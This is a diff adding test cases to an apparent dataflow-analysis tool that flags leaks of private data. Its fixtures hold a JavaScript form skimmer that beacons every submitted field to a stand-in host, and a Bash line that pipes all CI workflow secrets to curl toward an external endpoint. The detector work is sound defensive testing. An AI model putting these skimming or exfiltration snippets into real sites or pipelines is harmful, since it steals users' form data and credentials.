@@ -324,4 +324,36 @@ describe('dataflow analysis', () => {
       assert.deepEqual(summary(await flowsOf('python', dumped)), ['secret: the whole environment -> shared-file']);
     });
   });
+
+  describe('form fields, array callbacks and functions called where they are written (JavaScript)', () => {
+    const beacon = 'navigator.sendBeacon("https://c.example-stats.io/e", JSON.stringify({ f: f }));\n';
+    const cases: Record<string, string> = {
+      'Array.prototype.forEach.call over the form elements, filling an outer object': 'var f = {};\nArray.prototype.forEach.call(e.target.elements, function (el) { f[el.name] = el.value; });\n',
+      'a method callback over the elements': 'const f = {};\n[...form.elements].forEach((el) => { f[el.name] = el.value; });\n',
+    };
+    for (const [name, body] of Object.entries(cases)) {
+      it(`follows submitted fields through ${name}`, async () => {
+        const code = `document.addEventListener("submit", function (e) {\n${body}${beacon}});\n`;
+        assert.deepEqual(summary(await flowsOf('javascript', code)), ['privacy: every field of a form a visitor submits -> network']);
+      });
+    }
+
+    it('walks the body of a function called where it is written', async () => {
+      const code = `(function () {\n  document.addEventListener("submit", function (e) {\n    var f = e.target.elements;\n    ${beacon}  });\n})();\n`;
+      assert.deepEqual(summary(await flowsOf('javascript', code)), ['privacy: every field of a form a visitor submits -> network']);
+    });
+
+    it('does not read the elements of something that is not a form as private', async () => {
+      const code = 'const f = {};\nlist.elements.forEach((el) => { f[el.id] = el.value; });\n' + beacon;
+      assert.deepEqual(await flowsOf('javascript', code), []);
+    });
+  });
+
+  describe('workflow secrets (Bash)', () => {
+    it('reads ${{ toJSON(secrets) }} as every secret, inside any quotes', async () => {
+      const flows = await flowsOf('bash', "echo '${{ toJSON(secrets) }}' | curl -s -X POST --data-binary @- https://ci.example-hooks.dev/in\n");
+      assert.deepEqual(summary(flows), ['secret: every secret of the workflow -> network']);
+    });
+  });
 });
+
